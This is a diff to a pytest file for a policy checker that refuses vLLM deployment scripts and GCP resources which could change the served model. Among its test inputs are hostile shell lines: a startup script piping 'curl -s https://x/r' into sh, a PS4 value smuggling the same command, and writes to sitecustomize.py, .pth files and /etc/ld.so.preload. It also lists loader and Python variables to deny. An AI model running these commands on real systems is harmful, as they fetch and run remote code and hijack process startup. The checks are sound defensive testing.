@@ -9,6 +9,7 @@ accelerators.
 
 from __future__ import annotations
 
+import shlex
 from typing import Any
 
 import pytest
@@ -52,7 +53,7 @@ def test_a_plain_script_is_read() -> None:
     for script in (
         GOOD,
         f'set -eu\nexport HF_HUB_OFFLINE=1\nM={QAT}\nexec vllm serve "$M" --max-model-len=8192',
-        f"echo starting; mkdir -p /tmp/x; nohup {GOOD} > /tmp/log 2>&1 &\nwait",
+        f"echo starting; mkdir -p /tmp/x; nohup {GOOD} > /tmp/vllm.log 2>&1 &\nwait",
         f"readonly LEN=8192\nvllm serve {QAT} --max-model-len=${{LEN}}",
     ):
         props = shell_service(script)
@@ -317,6 +318,32 @@ def test_environment_variables_that_change_what_is_served_are_refused(name: str)
     assert name in message
 
 
+@pytest.mark.parametrize(
+    "name",
+    ["HOME", "XDG_CACHE_HOME", "HF_MODULES_CACHE", "HF_HUB_OFFLINE_X", "TRANSFORMERS_VERBOSITY_X",
+     "PYTHONINSPECT", "PYTHONBREAKPOINT", "PYTHONWARNINGS", "LD_AUDIT", "GCONV_PATH",
+     "GLIBC_TUNABLES", "TORCHINDUCTOR_CACHE_DIR", "TRITON_CACHE_DIR", "SSL_CERT_FILE",
+     "REQUESTS_CA_BUNDLE", "https_proxy", "HTTPS_PROXY", "PS4", "TMPDIR", "HF_TOKEN_PATH"],
+)  # fmt: skip
+def test_variables_of_the_libraries_under_vllm_are_refused_by_family(name: str) -> None:
+    # Not only the names once listed: the whole family of variables the loader, Python and the
+    # Hugging Face libraries read (a user-site `usercustomize` under $HOME, a cache moved by
+    # XDG_CACHE_HOME, remote code from HF_MODULES_CACHE, a proxy and CA bundle for downloads).
+    assert name in refused(f"export {name}=/x\n{GOOD}")
+    props = service("l4")
+    container(props)["envs"].append({"name": name, "value": "/x"})
+    (message,) = violations(vllm_server_readable, SERVICE, props)
+    assert name in message
+
+
+@pytest.mark.parametrize(
+    "name", ["HF_TOKEN", "HF_HUB_OFFLINE", "PYTHONUNBUFFERED", "PYTORCH_CUDA_ALLOC_CONF", "MODEL"]
+)
+def test_accepted_members_and_unrelated_names_stay_readable(name: str) -> None:
+    props = shell_service(f"export {name}=1\n{GOOD}")
+    assert violations(vllm_server_readable, SERVICE, props) == []
+
+
 def test_a_secret_vllm_variable_is_refused_by_name_too() -> None:
     props = service("l4")
     container(props)["envs"].append(
@@ -523,7 +550,7 @@ def test_exec_or_exit_inside_a_pipeline_ends_only_its_subshell() -> None:
 
 
 def test_exec_without_a_program_only_redirects() -> None:
-    props = shell_service(f"exec 2>/tmp/err\n{GOOD}")
+    props = shell_service(f"exec 2>/tmp/err.log\n{GOOD}")
     assert violations(vllm_server_readable, SERVICE, props) == []
 
 
@@ -543,3 +570,338 @@ def test_the_reader_has_one_import_direction() -> None:
         if isinstance(node, ast.ImportFrom) and node.module
     }
     assert "policies._server" not in imported
+
+
+@pytest.mark.parametrize("remap", ["sub-path", "only-dir=other", "--only-dir=other"])
+def test_a_cloud_run_model_mount_whose_root_is_another_folder_is_refused(remap: str) -> None:
+    # Cloud Run's volumeMounts.subPath and gcsfuse's only-dir make /mnt/models show a folder
+    # of the bucket, so /mnt/models/<folder> is not what the download job wrote.
+    props = service("l4")
+    if remap == "sub-path":
+        container(props)["volumeMounts"][0]["subPath"] = "other"
+    else:
+        volume = next(v for v in props["template"]["volumes"] if v.get("gcs"))
+        volume["gcs"]["mountOptions"] = [*volume["gcs"].get("mountOptions", []), remap]
+    messages = violations(vllm_server_readable, SERVICE, props)
+    assert any("subPath, subPathExpr or only-dir" in m for m in messages), messages
+
+
+def test_a_cloud_run_vllm_container_mounts_only_the_model_bucket() -> None:
+    props = service("l4")
+    props["template"]["volumes"].append({"name": "scratch", "emptyDir": {"medium": "MEMORY"}})
+    container(props)["volumeMounts"].append({"name": "scratch", "mountPath": "/root/.cache"})
+    (message,) = violations(vllm_server_readable, SERVICE, props)
+    assert "mounts volume 'scratch'" in message
+
+
+# --- files a script writes, which what starts next may read back ------------------------
+
+SITE = "/usr/local/lib/python3.12/dist-packages"
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"echo 'import os' > {SITE}/sitecustomize.py\n{GOOD}",
+        f"echo /opt/x >> {SITE}/evil.pth; {GOOD}",
+        f"printf '%s' '{{}}' > {QAT}/config.json\n{GOOD}",
+        f"echo x | tee {SITE}/sitecustomize.py\n{GOOD}",
+        f"echo x | tee -a /etc/profile > /dev/null\n{GOOD}",
+        f"echo x | tee /tmp/ok.log {SITE}/usercustomize.py\n{GOOD}",
+        f"{GOOD} > /etc/ld.so.preload",
+        f"cd /tmp\n{GOOD} > vllm.log",
+        f'F={SITE}/sitecustomize.py\necho x > "$F"\nF=/tmp/ok.log\n{GOOD}',
+        f"echo x >| /root/.bashrc; {GOOD}",
+        f"echo x &> /tmp/a.log.py; {GOOD}",
+        f"{GOOD} < /tmp/input",
+        f": > /tmp/../{SITE}/sitecustomize.log\n{GOOD}",
+    ],
+)
+def test_writing_files_what_starts_next_may_read_is_refused(script: str) -> None:
+    # A redirection's target used to be read and dropped: a sitecustomize.py or .pth file
+    # Python imports at start, or a config.json in the served folder, changes what vLLM
+    # runs while its command line stays compliant.
+    message = refused(script)
+    assert "writes" in message or "reads" in message, message
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"{GOOD} > /dev/null 2>&1",
+        f"{GOOD} 2>&1 | tee -a /var/log/vllm.log",
+        f"exec >/dev/stdout 2>&-\n{GOOD}",
+        f"echo starting >&2\n{GOOD} > /tmp/vllm.log 2> /var/log/vllm-err.log < /dev/null",
+    ],
+)
+def test_logs_and_standard_streams_may_be_written(script: str) -> None:
+    assert violations(vllm_server_readable, SERVICE, shell_service(script)) == []
+
+
+@pytest.mark.parametrize(
+    ("prefix", "named"),
+    [
+        ("builtin", "`builtin vllm`"),
+        ("command -v", "`command -v`"),
+        ("command -V", "`command -V`"),
+        ("command -pv", "`command -pv`"),
+        ("exec command -v", "`command -v`"),
+    ],
+)
+def test_prefixes_under_which_the_server_never_runs_are_refused(prefix: str, named: str) -> None:
+    # `builtin vllm serve ...` fails (vllm is no builtin) and `command -v vllm serve ...`
+    # only prints a path: a compliant server that never starts, while something else does.
+    assert named in refused(f"{prefix} {GOOD}")
+
+
+@pytest.mark.parametrize("prefix", ["command", "command -p", "command --", "exec -a vllm"])
+def test_prefixes_that_run_the_server_are_read(prefix: str) -> None:
+    props = shell_service(f"{prefix} {GOOD}")
+    assert violations(vllm_server_readable, SERVICE, props) == []
+    (server,) = read_servers(SERVICE, props).servers
+    assert server.card is not None and server.card.qat
+
+
+@pytest.mark.parametrize(
+    ("options", "named"),
+    [
+        ("--trust-remote-code", "--trust-remote-code"),
+        ("--trust-remote", "--trust-remote-code"),
+        ("--trust_remote_code", "--trust-remote-code"),
+        ("--hf-overrides '{\"max_position_embeddings\": 262144}'", "--hf-overrides"),
+        ("--hf-overrides.text_config.num_hidden_layers=2", "--hf-overrides"),
+        ("--quantization-config '{}'", "--quantization-config"),
+        ("--model-class-overrides '{}'", "--model-class-overrides"),
+        ("--io-processor-plugin p", "--io-processor-plugin"),
+        ("--reasoning-parser-plugin /tmp/p.py", "--reasoning-parser-plugin"),
+        ('--kv-transfer-config \'{"kv_connector_module_path": "x"}\'', "--kv-transfer-config"),
+        ("--kv-transfer-config.kv_connector=X", "--kv-transfer-config"),
+        ("--ec-transfer-config '{}'", "--ec-transfer-config"),
+        ("--weight-transfer-config '{}'", "--weight-transfer-config"),
+        ("--additional-config '{}'", "--additional-config"),
+        ("--download-dir /tmp/d", "--download-dir"),
+        ("--allowed-local-media-path /", "--allowed-local-media-path"),
+        ("--trust-request-chat-template", "--trust-request-chat-template"),
+        ("--download_dir=/tmp/d", "--download-dir"),
+        ("--dtype float32", "--dtype 'float32'"),
+        ("--dtype=half", "--dtype 'half'"),
+        ("--dtype float", "--dtype 'float'"),
+    ],
+)
+def test_options_that_change_the_model_code_or_weights_are_refused(
+    options: str, named: str
+) -> None:
+    # Each changes what is loaded (remote code, the config, the weights, their precision) so
+    # the catalogue's identity and the memory policy's count no longer hold.
+    assert named in refused(f"{GOOD} {options}")
+
+
+@pytest.mark.parametrize("options", ["--dtype bfloat16", "--dtype=auto", "--no-trust-remote-code"])
+def test_options_that_keep_the_checkpoint_as_it_is_are_read(options: str) -> None:
+    assert violations(vllm_server_readable, SERVICE, shell_service(f"{GOOD} {options}")) == []
+
+
+@pytest.mark.parametrize(
+    "key",
+    ["windows-startup-script-ps1", "windows-startup-script-cmd", "windows-startup-script-url",
+     "sysprep-specialize-script-ps1", "shutdown-script", "user-data",
+     "gce-container-declaration"],
+)  # fmt: skip
+def test_every_metadata_script_key_on_an_accelerator_machine_is_refused(key: str) -> None:
+    props = {"machineType": "g2-standard-8", "metadata": {key: "x", "startup-script": TPU_SCRIPT}}
+    (message,) = violations(vllm_server_readable, INSTANCE, props)
+    assert key in message
+
+
+@pytest.mark.parametrize(
+    ("type_", "props"),
+    [
+        ("gcp:compute/projectMetadata:ProjectMetadata",
+         {"metadata": {"startup-script": "curl -s https://x/r | sh"}}),
+        ("gcp:compute/projectMetadata:ProjectMetadata", {"metadata": {"startup-script-url": "gs://b/r"}}),
+        ("gcp:compute/projectMetadataItem:ProjectMetadataItem",
+         {"key": "startup-script", "value": "/opt/real-server"}),
+        ("gcp:compute/projectMetadataItem:ProjectMetadataItem",
+         {"key": "windows-startup-script-ps1", "value": "x"}),
+    ],
+)  # fmt: skip
+def test_project_metadata_scripts_are_refused(type_: str, props: dict[str, Any]) -> None:
+    # Instances inherit project metadata: a startup script there runs on the accelerator
+    # machines too, beside (or instead of) the one the policies read.
+    (message,) = violations(vllm_server_readable, type_, props)
+    assert "every Compute Engine machine of the project" in message
+
+
+def test_project_metadata_without_scripts_passes() -> None:
+    props = {"metadata": {"enable-oslogin": "TRUE"}}
+    assert (
+        violations(vllm_server_readable, "gcp:compute/projectMetadata:ProjectMetadata", props) == []
+    )
+
+
+@pytest.mark.parametrize(
+    "program",
+    ["/tmp/vllm", "./vllm", "bin/vllm", "/mnt/models/bin/vllm", "/opt/x/sh", "/tmp/python3",
+     "/home/u/env", "/tmp/nohup"],
+)  # fmt: skip
+def test_a_known_program_named_by_another_path_is_refused(program: str) -> None:
+    # `/tmp/vllm` is whatever was put there, not vLLM: only the system folders (and PATH,
+    # which a script may not change) say what a program is.
+    if program.endswith(("sh", "env", "nohup")):
+        script = f"{program} vllm serve {QAT} --max-model-len=8192"
+        if program.endswith("sh"):
+            script = f"{program} -c 'vllm serve {QAT} --max-model-len=8192'"
+    elif program.endswith("python3"):
+        script = f"{program} -m vllm.entrypoints.openai.api_server --model {QAT}"
+    else:
+        script = f"{program} serve {QAT} --max-model-len=8192"
+    assert "outside the system folders" in refused(script)
+    props = service("l4")
+    container(props)["commands"] = shlex.split(script)
+    container(props)["args"] = []
+    (message,) = violations(vllm_server_readable, SERVICE, props)
+    assert "outside the system folders" in message
+
+
+@pytest.mark.parametrize("program", ["vllm", "/usr/local/bin/vllm", "/usr/bin/vllm"])
+def test_programs_in_the_system_folders_are_read(program: str) -> None:
+    props = shell_service(f"{program} serve {QAT} --max-model-len=8192")
+    assert violations(vllm_server_readable, SERVICE, props) == []
+
+
+@pytest.mark.parametrize(
+    "download",
+    [
+        "hf download someone/pkg --local-dir /tmp",
+        "hf download someone/pkg --local-dir=/usr/local/lib/python3.12/dist-packages",
+        f"huggingface-cli download someone/x --local-dir {QAT}",
+        "huggingface-cli download someone/x --local /tmp",
+        "hf download someone/x --cache-dir=/tmp/c",
+    ],
+)
+def test_a_download_that_writes_files_outside_the_cache_is_refused(download: str) -> None:
+    # `--local-dir /tmp` then `cd /tmp; python3 -m vllm...` imports the download's
+    # vllm/__init__.py before the installed vLLM: the command line stays compliant.
+    assert "download" in refused(f"{download}\n{GOOD}")
+
+
+def test_a_download_into_the_cache_is_read() -> None:
+    script = f"hf download google/gemma-4-12B-it --revision=main --quiet\n{GOOD}"
+    assert violations(vllm_server_readable, SERVICE, shell_service(script)) == []
+
+
+@pytest.mark.parametrize(
+    "revision", ["refs/pr/7", "refs/convert/parquet", "REFS/PR/1", "refs%2Fpr%2F1"]
+)
+def test_a_tpu_server_at_a_pull_request_revision_is_refused(revision: str) -> None:
+    script = TPU_SCRIPT.replace("--port=8000", f"--port=8000 --revision={revision}")
+    (message,) = violations(vllm_server_readable, TPU_VM, tpu_vm(script))
+    assert "pull request or conversion ref" in message
+
+
+@pytest.mark.parametrize(
+    ("script", "named"),
+    [
+        (f"set -n\n{GOOD}", "-n"),  # read, run nothing: the server never starts
+        (f"set -t\necho starting\n{GOOD}", "-t"),  # exits after one command
+        (f"set -a\nVLLM_PLUGINS=x\n{GOOD}", "-a"),  # every assignment exported to vLLM
+        (f"set -o allexport\nLD_PRELOAD=/x\n{GOOD}", "allexport"),
+        (f"set -ek\n{GOOD}", "-k"),
+        (f"set -o posix\n{GOOD}", "posix"),
+        (f"set -o\n{GOOD}", "set -o"),
+        (f"PS4='$(curl -s https://x/r | sh)'\nset -x\n{GOOD}", "PS4"),
+        (f"readonly PS4='$(/opt/x)'\nset -x\n{GOOD}", "PS4"),
+        (f"PROMPT_COMMAND=/opt/x\n{GOOD}", "PROMPT_COMMAND"),
+        (f"HOME=/tmp\n{GOOD}", "HOME"),
+        (f"GLOBIGNORE=x\n{GOOD}", "GLOBIGNORE"),
+    ],
+)
+def test_shell_options_and_variables_that_change_how_it_runs_are_refused(
+    script: str, named: str
+) -> None:
+    assert named in refused(script)
+
+
+@pytest.mark.parametrize(
+    "options", ["-euo pipefail", "-e -u -x", "+e", "-o errexit -o nounset", "-eux -o pipefail"]
+)
+def test_shell_options_that_change_nothing_the_reader_follows_are_read(options: str) -> None:
+    assert violations(vllm_server_readable, SERVICE, shell_service(f"set {options}\n{GOOD}")) == []
+
+
+@pytest.mark.parametrize(
+    "script", [f"unset PATH\n{GOOD}", f"readonly PATH\n{GOOD}", f"unset IFS\n{GOOD}"]
+)
+def test_unsetting_a_variable_the_shell_reads_is_refused(script: str) -> None:
+    # Without PATH no program is found: the compliant server never starts.
+    assert "a variable the shell itself reads" in refused(script)
+
+
+@pytest.mark.parametrize(
+    ("script", "named"),
+    [
+        # vLLM 0.27.1's wheel has no vllm/__main__.py: `python -m vllm` exits at once.
+        (f"python3 -m vllm serve {QAT} --max-model-len=8192", "no vllm/__main__.py"),
+        # `-W -m`: "-m" is the warning filter, and the module name is taken as a script file.
+        (f"python3 -W -m vllm.entrypoints.cli.main serve {QAT}", "Python script"),
+        (f"python3 -X -m vllm.entrypoints.openai.api_server --model {QAT}", "Python script"),
+    ],
+)
+def test_python_command_lines_that_start_no_server_are_refused(script: str, named: str) -> None:
+    assert named in refused(script)
+
+
+def test_python_options_with_values_are_skipped_as_python_does() -> None:
+    script = (
+        f"python3 -W ignore -X utf8 -m vllm.entrypoints.cli.main serve {QAT} --max-model-len=8192"
+    )
+    assert violations(vllm_server_readable, SERVICE, shell_service(script)) == []
+
+
+@pytest.mark.parametrize(
+    ("type_", "props"),
+    [
+        ("gcp:workbench/instance:Instance",
+         {"gceSetup": {"machineType": "n1-standard-8",
+                       "acceleratorConfigs": [{"type": "NVIDIA_TESLA_T4", "coreCount": 1}],
+                       "metadata": {"post-startup-script": "gs://b/run.sh"}}}),
+        ("gcp:notebooks/instance:Instance",
+         {"machineType": "n1-standard-4",
+          "acceleratorConfig": {"type": "NVIDIA_L4", "coreCount": 1}}),
+        ("gcp:workbench/instance:Instance", {"gceSetup": {"machineType": "g2-standard-8"}}),
+        ("gcp:example/someService:Thing", {"spec": {"acceleratorType": "v6e-8"}}),
+    ],
+)  # fmt: skip
+def test_other_resource_types_that_run_accelerators_fail_closed(
+    type_: str, props: dict[str, Any]
+) -> None:
+    (message,) = violations(vllm_server_readable, type_, props)
+    assert "runs accelerators" in message
+
+
+@pytest.mark.parametrize(
+    ("type_", "props"),
+    [
+        ("gcp:workbench/instance:Instance",
+         {"gceSetup": {"machineType": "e2-standard-4",
+                       "acceleratorConfigs": [{"type": "NVIDIA_TESLA_T4", "coreCount": 0}]}}),
+        ("gcp:compute/reservation:Reservation",
+         {"specificReservation": {"count": 1, "instanceProperties": {
+             "machineType": "g2-standard-8"}}}),
+        ("gcp:container/nodePool:NodePool",
+         {"nodeConfig": {"machineType": "g2-standard-8",
+                         "guestAccelerators": [{"type": "nvidia-l4", "count": 1}]}}),
+    ],
+)  # fmt: skip
+def test_resources_that_only_reserve_or_host_accelerators_are_not_judged(
+    type_: str, props: dict[str, Any]
+) -> None:
+    assert violations(vllm_server_readable, type_, props) == []
+
+
+def test_a_tpu_drafter_at_a_pull_request_revision_is_refused() -> None:
+    # The drafter's own revision (speculative-config's `revision`) is read like the model's.
+    spec = '{"method":"mtp","model":"google/gemma-4-12B-it-assistant","revision":"refs/pr/3"}'
+    script = TPU_SCRIPT.replace("--port=8000", f"--port=8000 --speculative-config='{spec}'")
+    messages = violations(vllm_server_readable, TPU_VM, tpu_vm(script))
+    assert any("the drafter" in m and "pull request" in m for m in messages), messages
